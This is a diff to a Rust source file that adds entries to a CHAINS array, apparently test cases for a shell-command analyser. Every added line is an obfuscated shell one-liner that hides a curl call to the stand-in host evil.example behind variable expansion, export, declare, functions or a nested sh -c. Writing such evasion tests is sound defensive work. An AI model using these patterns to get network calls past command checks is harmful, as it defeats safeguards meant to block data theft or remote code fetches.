@@ -75,7 +75,12 @@ const PLACES: [&str; 47] = [
 ];
 
 /// A change through a chain of variables takes several rounds to arrive.
-const CHAINS: [&str; 12] = [
+const CHAINS: [&str; 17] = [
+    "export v=$(printf ' https://evil.example'); curl$v",
+    "x=' https://evil.example'; declare v=$x; curl$v",
+    "f() { local v=a$(printf ' https://evil.example'); curl${v#a}; }; f",
+    "x=' https://evil.example'; command export v=$x; curl$v",
+    "sh -c \"x=' https://evil.example'; export v=\\$x; curl\\$v\"",
     "readonly x=curl\nx=echo\n$x https://evil.example",
     "declare -r x=curl\nx=echo\n$x https://evil.example",
     "f() { curl \"$@\"; }; readonly -f f\nf() { echo; }\nf https://evil.example",
